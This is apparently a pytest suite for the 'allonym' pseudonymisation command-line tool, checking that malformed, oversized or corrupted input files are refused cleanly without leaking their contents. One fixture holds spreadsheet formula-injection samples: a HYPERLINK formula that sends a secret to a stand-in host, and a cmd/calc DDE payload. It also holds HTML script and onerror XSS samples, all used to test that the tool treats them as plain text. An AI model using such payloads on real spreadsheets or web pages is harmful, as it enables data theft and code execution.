"""Hundreds of files that cannot be read, or must not be: each is refused with one line, and nothing of it is written.

All of them go through one run of the command line with a vault, with good files between them, which must go on.
"""

import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from tests.interfaces.command import PASSPHRASE, allonym

pytest.importorskip("pyarrow", reason="needs pyarrow: pip install 'allonym[parquet]'")
pytest.importorskip("zstandard", reason="needs zstandard: pip install 'allonym[zst]'")

from tests.interfaces.hostile_containers import GOOD, flipped, refused_containers, written
from tests.interfaces.hostile_texts import (
    CUE,
    MAIL,
    POSTS,
    SECRET,
    SENTENCE,
    TOKENS,
    TWEETS,
    WORDS,
    left_out_rows,
    named_formats,
    refused_texts,
)

from allonym.interfaces.cli.app import run

REFUSED = {**refused_texts(), **refused_containers()}
NAMED = named_formats()
LEFT_OUT = left_out_rows()
SOUND = {
    "00-first.txt": SENTENCE.encode(),
    "html-good.html": f"<p>{SENTENCE}</p>".encode(),
    "json-good.json": POSTS,
    "parquet-good.parquet": written("parquet"),
    "arrows-good.arrows": written("stream"),
    "srt-good.srt": CUE,
    "zz-last.tweets.js": TWEETS,
    "conll-good.conll": TOKENS,
    **{f"{ending}-good.{ending}": data for ending, data in GOOD.items()},
}
"""They stand between the others, first and last in the run."""

CIRCLE = {"id": "#", "name": SECRET, "again": {"$ref": "#"}, "list": [{"$ref": "#/list"}, {"$ref": "#/again"}]}
HARMLESS = {
    "circle.json": json.dumps(CIRCLE).encode(),
    "circle.jsonl": b"".join(json.dumps(CIRCLE).encode() + b"\n" for _ in range(3)),
    "formula.csv": f'id,text\n1,"=HYPERLINK(""http://x.example?""&A1,""{SECRET}"")"\n2,+{MAIL}\n3,@{SECRET}\n'.encode(),
    "formula.tsv": f"id\ttext\n1\t=cmd|' /C calc'!A0 {SECRET}\n2\t-2+3 {MAIL}\n".encode(),
    "script.html": f"<script>alert('{SECRET}')</script><img src=x onerror=\"alert('{MAIL}')\">".encode(),
}
"""What looks like an attack and is a text: references are not followed, formulas not computed, scripts not run."""


@dataclass
class Done:
    """What a run left: its exit code, the lines for people, and its folder."""

    code: int
    lines: list[str] = field(repr=False)
    folder: Path

    def about(self, name: str) -> list[str]:
        return [line for line in self.lines if name in line]


def taken_through(folder: Path, files: dict[str, bytes], *options: str) -> Done:
    (folder / "in").mkdir()
    (folder / "pass").write_text(PASSPHRASE + "\n")
    (folder / "pass").chmod(0o600)
    for name, data in files.items():
        (folder / "in" / name).write_bytes(data)
    arguments = ["pseudonymize", str(folder / "in"), "-o", str(folder / "out"), "--vault", str(folder / "v"), "--fast"]
    told = io.StringIO()
    with redirect_stderr(told), redirect_stdout(told):
        code = run([*arguments, "--passphrase-file", str(folder / "pass"), "--workers", "0", *options])
    return Done(code, told.getvalue().splitlines(), folder)


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Done:
    return taken_through(tmp_path_factory.mktemp("hostile"), {**REFUSED, **SOUND})


def require_silent(lines: list[str]) -> None:
    """Fail if a line shows words of a file."""
    said = "\n".join(lines).encode()
    assert [word for word in WORDS if word in said] == []
    assert "internal error" not in said.decode()


def test_there_are_more_than_two_hundred_and_no_two_are_the_same() -> None:
    assert len({*REFUSED.values()}) > 500
    endings = {name.partition(".")[2] for name in REFUSED}
    assert endings >= {
        "csv", "tsv", "json", "txt", "md", "html", "eml", "mbox", "srt", "vtt", "conll", "docx", "xlsx", "zip",
        "parquet", "arrow", "tweets.js", "txt.gz", "txt.zst",
    }  # fmt: skip


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_file_that_cannot_be_read_is_refused_with_one_line(name: str, done: Done) -> None:
    assert len(done.about(name)) == 1
    assert done.about(name)[0].startswith(f"error: {name}")
    assert len(done.about(name)[0]) > len(f"error: {name}: ") + 10
    assert not (done.folder / "out" / name).exists()


def test_no_line_shows_words_of_a_file(done: Done) -> None:
    require_silent(done.lines)


def test_the_good_files_between_them_go_on(done: Done) -> None:
    assert done.code == 1
    assert {path.name for path in (done.folder / "out").rglob("*")} == set(SOUND)


def test_nothing_half_written_is_left(done: Done) -> None:
    assert sorted(path.name for path in done.folder.iterdir() if not path.name.startswith("v")) == ["in", "out", "pass"]
    assert all(word not in path.read_bytes() for path in done.folder.glob("v*") for word in WORDS)


def test_the_vault_is_sound_afterwards_and_gives_the_good_files_back(done: Done) -> None:
    verified = allonym("vault", "verify", "v", cwd=done.folder)
    recovered = allonym("recover", "out", "-o", "back", "--vault", "v", "--reason", "test", cwd=done.folder)

    assert (verified.returncode, recovered.returncode) == (0, 0)
    assert {path.name: path.read_bytes() for path in (done.folder / "back").iterdir()} == SOUND


@pytest.mark.parametrize("form", sorted(NAMED))
def test_exports_that_are_none_are_refused(form: str, tmp_path: Path) -> None:
    done = taken_through(tmp_path, NAMED[form], "--format", form)

    assert done.code == 1
    assert [name for name in NAMED[form] if len(done.about(name)) != 1] == []
    assert not any(path.is_file() for path in (tmp_path / "out").rglob("*"))
    require_silent(done.lines)


@pytest.mark.parametrize("ending", ["csv", "tsv", "jsonl"])
def test_rows_that_cannot_be_read_are_named_and_left_out(ending: str, tmp_path: Path) -> None:
    files = {name: each for name, each in LEFT_OUT.items() if name.endswith(f".{ending}")}

    done = taken_through(tmp_path, {name: data for name, (data, _) in files.items()})

    assert done.code == 1
    require_silent(done.lines)
    for name, (_, place) in files.items():
        made = (tmp_path / "out" / name).read_bytes()
        assert [line for line in done.about(name) if f"{name} {place}" in line] != [], name
        assert made.count(b"fine") == 2, name
        assert [word for word in WORDS if word in made] == [], name


def test_what_only_looks_like_an_attack_is_a_text(tmp_path: Path) -> None:
    terms = tmp_path / "terms.txt"
    terms.write_text(f"{SECRET}\nZelda\n")

    done = taken_through(tmp_path, HARMLESS, "--terms", str(terms))

    assert done.code == 0, done.lines
    for name in HARMLESS:
        made = (tmp_path / "out" / name).read_bytes()
        assert [word for word in WORDS if word in made] == [], name


def one_line(size: int) -> Iterator[bytes]:
    """Return the parts of a file that is one line, without a space, of so many bytes."""
    yield b"ZeldaQuimbyson"
    for _ in range(size >> 20):
        yield b"a" * (1 << 20)


LONG = {
    "txt": (70, "error: long.txt: no white space within"),
    "csv": (30, "error: long.csv: row 1, the header: longer than"),
    "tsv": (30, "error: long.tsv: row 1, the header: longer than"),
    "json": (30, "error: long.json: line 1 column 1: not valid JSON"),
    "srt": (30, "error: long.srt: there is no blank line within"),
    "conll": (30, "error: long.conll: there is no blank line within"),
    "eml": (30, "error: long.eml: this does not begin like a mail"),
    "html": (70, "error: long.html: the page is longer than"),
    "jsonl": (70, "long.jsonl row 1: longer than"),
}
"""Megabytes that are more than a format holds at once, and what is said."""


@pytest.mark.parametrize(
    "ending", [pytest.param(each, marks=[pytest.mark.slow] if at % 4 else []) for at, each in enumerate(sorted(LONG))]
)
def test_one_endless_line_is_refused(ending: str, tmp_path: Path) -> None:
    size, message = LONG[ending]

    done = taken_through(tmp_path, {f"long.{ending}": b"".join(one_line(size << 20))}, "-q")

    assert done.code == 1
    assert [line for line in done.lines if line.startswith(message)] != []
    require_silent(done.lines)
    assert not (tmp_path / "out" / f"long.{ending}").exists() or not (tmp_path / "out" / f"long.{ending}").read_bytes()


@pytest.mark.slow
@pytest.mark.parametrize("ending", ["csv", "json", "jsonl", "srt", "txt"])
def test_a_line_of_a_gigabyte_is_refused_in_little_memory(ending: str, tmp_path: Path) -> None:
    with (tmp_path / f"long.{ending}").open("wb") as stream:
        stream.writelines(one_line(1 << 30))
    command = [sys.executable, "-m", "allonym", "pseudonymize", f"long.{ending}", "-o", f"out.{ending}", "--fast"]

    with (tmp_path / "told").open("wb") as told:
        process = subprocess.Popen([*command, "--workers", "0"], cwd=tmp_path, stderr=told, stdout=told)
        _, status, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)

    lines = (tmp_path / "told").read_text().splitlines()
    (tmp_path / f"long.{ending}").unlink()
    assert process.returncode == 1
    assert [line for line in lines if line.startswith(LONG[ending][1])] != []
    require_silent(lines)
    assert usage.ru_maxrss < 1_000_000, "kilobytes"
    assert not any(path.read_bytes() for path in tmp_path.glob("out*") if path.is_file())


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["parquet", "arrow", "plain", "stream", *sorted(GOOD)])
def test_a_turned_byte_is_refused_or_read_but_never_an_internal_error(kind: str, tmp_path: Path) -> None:
    ending = {"plain": "feather", "stream": "arrows"}.get(kind, kind)
    data = GOOD[kind] if kind in GOOD else written(kind)

    done = taken_through(tmp_path, {f"at-{at}.{ending}": turned for at, turned in flipped(data, 1500)}, "-q")

    assert done.code in {0, 1}
    require_silent(done.lines)
